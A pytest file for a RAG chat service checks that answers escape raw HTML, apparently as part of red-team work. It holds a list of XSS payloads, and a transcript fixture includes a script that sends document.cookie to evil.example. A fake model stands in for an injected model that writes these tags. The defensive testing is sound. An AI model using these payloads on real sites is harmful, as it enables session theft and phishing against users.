"""Second red-team, item 8: raw HTML in answers (issue 19).

The link filter let through what is not a link of its own: entity-encoded links in a tag
(`<a href="https&#x3a;&#x2f;&#x2f;evil…">`, `jav&#x61;script:`), `<video poster=…>`,
`<iframe src=…>`, `<img src=x onerror=…>` and `<svg onload>`. The chat page showed them as text,
but every other client that renders Markdown with HTML on ran them. Now an answer is Markdown
without raw HTML (docs/api.md): every `<` that would open a tag is written `&lt;`.

Checked here the way another client sees an answer: rendered by a CommonMark renderer with raw
HTML allowed (markdown-it-py), the HTML it makes must hold no element or attribute beyond what
Markdown itself writes. First the filter alone (whole and streamed in pieces, and in linear time),
then the real app: the built-in answerer quoting a transcript that holds the payloads, and a fake
model that writes them split across stream pieces, on /v1/chat and the OpenAI facade, JSON and
streamed, where the stream must add up to the final answer.
"""

from __future__ import annotations

import html
import json
import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from service.rag.filters import LinkFilter, SafeAnswer
from service.rag.links import clean_answer
from tests.fixtures.apps import build_index, open_client
from tests.fixtures.core import SAMPLE
from tests.fixtures.servers import LiveServer
from tests.fixtures.sse import sse

# What CommonMark itself writes for Markdown: anything else in the rendered HTML came from raw HTML.
MARKDOWN_TAGS = {"p", "br", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr",
                 "h1", "h2", "h3", "h4", "h5", "h6"}
MARKDOWN_ATTRS = {("a", "href"), ("a", "title"), ("ol", "start"), ("code", "class")}
RENDER = MarkdownIt("commonmark", {"html": True})


class _Markup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in MARKDOWN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) not in MARKDOWN_ATTRS:
                self.found.append(f"<{tag} {name}>")
            elif name == "href" and not (value or "").startswith(("https://", "http://", "#", "/")):
                self.found.append(f"<a href={value}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.found.append(f"<![{data}]>")

    def handle_data(self, data):
        self.text.append(data)


def rendered(markdown: str) -> tuple[list[str], str]:
    """(the elements and attributes that raw HTML made, the text a reader sees) for `markdown`
    rendered as CommonMark with raw HTML allowed."""
    parser = _Markup()
    parser.feed(RENDER.render(markdown))
    parser.close()
    return parser.found, "".join(parser.text)


# The report's payloads, and the rest of what an HTML parser or a CommonMark renderer starts at `<`.
PAYLOADS = [
    '<a href="https&#x3a;&#x2f;&#x2f;evil.example/login">verify</a>',
    '<a href="jav&#x61;script:alert(1)">the tables</a>',
    "<video poster=https://evil.example/p.png></video>",
    '<video poster="https&#58;//evil.example/p.png" controls>',
    "<iframe src=https://evil.example/frame></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a/href=javascript&colon;alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<!-- hidden --> <!DOCTYPE html> <?php echo 1 ?> <![CDATA[ x ]]>",
    "<div>\n<b>block</b>\n</div>",
    "<x@evil.example> <irc://evil.example/chan>",
]
ORDINARY = "3 < 5, a <= b, x<-y and <3"  # a `<` that opens nothing: left as it is
# Where an HTML parser starts a tag: browsers read `<a/href=…>` or `<video poster=(link removed)>`
# as tags, where CommonMark does not.
TAG_OPEN = re.compile(r"<[A-Za-z/!?]")


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p[:30] for p in PAYLOADS])
def test_no_tag_gets_through_the_answer_filter(payload):
    """clean_answer, the link filter fed in pieces, and the whole chain a model's answer streams
    through (citations, links, prompt leaks): the pieces add up to the final answer, and rendered
    with HTML allowed it makes no element or attribute beyond Markdown's own. The tags are shown
    as text, and a `<` that opens nothing is left as it is (before: every payload came out as it
    went in, and rendered as HTML)."""
    text = f"The orchard harvested 9,400 crates [1], {ORDINARY}. {payload} Picked by hand."
    whole = clean_answer(text)
    assert not TAG_OPEN.search(whole), whole
    found, shown = rendered(whole)
    assert found == [], (whole, found)
    assert f"9,400 crates [1], {ORDINARY}." in whole and "Picked by hand." in shown
    assert "<" in shown.replace(ORDINARY, "")  # the tag is there to read, as text
    for size in (1, 3, 7, len(text)):
        stream = LinkFilter()
        assert "".join([*(stream.feed(text[i:i + size]) for i in range(0, len(text), size)),
                        stream.flush()]) == whole
        chain = SafeAnswer({1})
        pieces = [chain.feed(text[i:i + size]) for i in range(0, len(text), size)] + [chain.flush()]
        assert "".join(pieces) == chain.result().text == whole, size


def test_a_long_run_of_tags_is_escaped_in_linear_time():
    """40,000 tags (120 KB) in one answer, whole and streamed in 50-character pieces: escaped, in
    well under a second (the check is one character of look-ahead per `<`)."""
    text = "<b>" * 40_000
    started = time.perf_counter()
    assert clean_answer(text) == "&lt;b>" * 40_000
    stream = LinkFilter()
    streamed = "".join([*(stream.feed(text[i:i + 50]) for i in range(0, len(text), 50)), stream.flush()])
    assert streamed == "&lt;b>" * 40_000
    assert time.perf_counter() - started < 1.0


# --- end to end: the built-in answerer quotes a transcript that holds the payloads -------------
QUESTION = "How many crates of pears did the Varna Valley orchard harvest?"
HTML_SENTENCE = (
    "The Varna Valley orchard harvested 9,400 crates of pears in 2023 <img src=x onerror=alert(1)> "
    "<svg onload=alert(2)> <iframe src=https://evil.example/frame></iframe> "
    "<video poster=https://evil.example/poster.png></video> "
    '<a href="https&#x3a;&#x2f;&#x2f;evil&#x2e;example/login">verify the harvest</a> and '
    '<a href="jav&#x61;script:alert(3)">the tables</a>, picked by hand over six weeks.'
)
ORCHARD = f"""Pears of the valley

The Editor sat down with Ilona Marsh, Head Grower at the Varna Valley Orchard, to discuss the pear harvest.

How many crates of pears did the Varna Valley orchard harvest?

{HTML_SENTENCE} The <script>fetch("https://evil.example/steal?c="+document.cookie)</script> pickers worked from dawn.

Where are the old harvest records kept?

The old harvest records are kept [click here](javascript:alert(4)) and ![pixel](https://evil.example/pixel.gif) in the barn archive since 1990.
"""


@pytest.fixture(scope="module")
def orchard_index(tmp_path_factory, embedder):
    root = tmp_path_factory.mktemp("orchard")
    (root / "orchard-html.txt").write_text(ORCHARD, encoding="utf-8")
    return build_index(root / "index", embedder, [SAMPLE, root / "orchard-html.txt"])


def chat_answers(client, question: str) -> dict[str, str]:
    """The answer from /v1/chat and /v1/chat/completions, JSON and streamed; each stream is
    checked to add up to its final answer."""
    messages = [{"role": "user", "content": question}]
    out = {}
    r = client.post("/v1/chat", json={"messages": messages})
    assert r.status_code == 200, r.text
    out["chat"] = r.json()["answer"]
    with client.stream("POST", "/v1/chat", json={"messages": messages, "stream": True}) as s:
        assert s.status_code == 200
        events = sse(s.iter_lines())
    assert events[-1][0] == "done", events[-3:]
    out["chat-stream"] = "".join(json.loads(d)["text"] for name, d in events if name == "token")
    assert out["chat-stream"] == json.loads(events[-1][1])["answer"]
    r = client.post("/v1/chat/completions", json={"messages": messages})
    assert r.status_code == 200, r.text
    out["openai"] = r.json()["choices"][0]["message"]["content"]
    with client.stream("POST", "/v1/chat/completions", json={"messages": messages, "stream": True}) as s:
        assert s.status_code == 200
        chunks = [json.loads(d) for _, d in sse(s.iter_lines()) if d != "[DONE]"]
    out["openai-stream"] = "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks)
    return out


def assert_inert(answers: dict[str, str]) -> None:
    for where, answer in answers.items():
        assert not TAG_OPEN.search(answer), (where, answer)
        found, _ = rendered(answer)
        assert found == [], (where, found, answer)


def test_the_builtin_answerer_quotes_html_as_text(orchard_index, app_settings):
    """The sentence is quoted (so the payloads were read), and on every path the answer renders
    with no element beyond Markdown's own; the passage itself is returned as written (sources
    are plain text, docs/api.md)."""
    with open_client(app_settings(orchard_index)) as client:
        answers = chat_answers(client, QUESTION)
        source = client.post("/v1/chat", json={"messages": [{"role": "user", "content": QUESTION}]}).json()["sources"][0]
    assert source["transcript"] == "orchard-html" and "<svg onload=alert(2)>" in source["text"]
    assert len(set(answers.values())) == 1, answers
    answer = answers["chat"]
    assert "9,400 crates of pears" in answer and "&lt;svg onload=alert(2)>" in answer, answer
    assert_inert(answers)
    _, shown = rendered(answer)
    assert "<svg onload=alert(2)>" in shown and "<img src=x onerror=alert(1)>" in shown


# --- a fake model that writes HTML, split across stream pieces ------------------------------------
MODEL_PIECES = ["The orchard harvested 9,400 crates [1]. <", "img src=x oner", "ror=alert(1)> <sv", "g onload",
                "=alert(2)> <ifr", "ame src=https&#x3a;//evil.example/f></iframe> <a href=\"jav&#x61;",
                "script:alert(3)\">tables</a> <vid", "eo poster=//evil.example/p.png> <", "!-- x --> <",
                "/p> done."]


def fake_model_app():
    """A fake OpenAI-compatible model (named as such: it stands in for a model that obeys an
    injection) that streams MODEL_PIECES, or sends them joined when not asked to stream."""
    from starlette.applications import Starlette
    from starlette.responses import JSONResponse, StreamingResponse
    from starlette.routing import Route

    def chunk(text: str) -> bytes:
        body = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake",
                "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
        return f"data: {json.dumps(body)}\n\n".encode()

    async def pieces():
        for p in MODEL_PIECES:
            yield chunk(p)
        yield b"data: [DONE]\n\n"

    async def completions(request):
        body = await request.json()
        if body.get("stream"):
            return StreamingResponse(pieces(), media_type="text/event-stream")
        return JSONResponse({"id": "x", "object": "chat.completion", "created": 0, "model": "fake",
                             "choices": [{"index": 0, "finish_reason": "stop",
                                          "message": {"role": "assistant", "content": "".join(MODEL_PIECES)}}]})

    return Starlette(routes=[Route("/v1/chat/completions", completions, methods=["POST"])])


def test_a_model_that_writes_html_is_escaped_on_every_path(orchard_index, app_settings):
    """The model's tags, split across pieces (`<` at the end of one, the name in the next), come
    out escaped on /v1/chat and the OpenAI facade, JSON and streamed, each stream equal to its
    final answer (before: all of it came through as written)."""
    with LiveServer(fake_model_app()) as model:
        settings = app_settings(orchard_index, answer_mode="llm", llm_base_url=model.url + "/v1",
                                llm_evidence_gate=False, llm_timeout=60)
        with open_client(settings) as client:
            answers = chat_answers(client, QUESTION)
    assert len(set(answers.values())) == 1, answers
    answer = answers["chat"]
    assert answer.startswith("The orchard harvested 9,400 crates [1].") and answer.endswith("done."), answer
    assert "&lt;svg onload=alert(2)>" in answer and "&lt;!-- x -->" in answer, answer
    assert_inert(answers)
    _, shown = rendered(answer)
    assert "<img src=x onerror=alert(1)>" in html.unescape(shown)
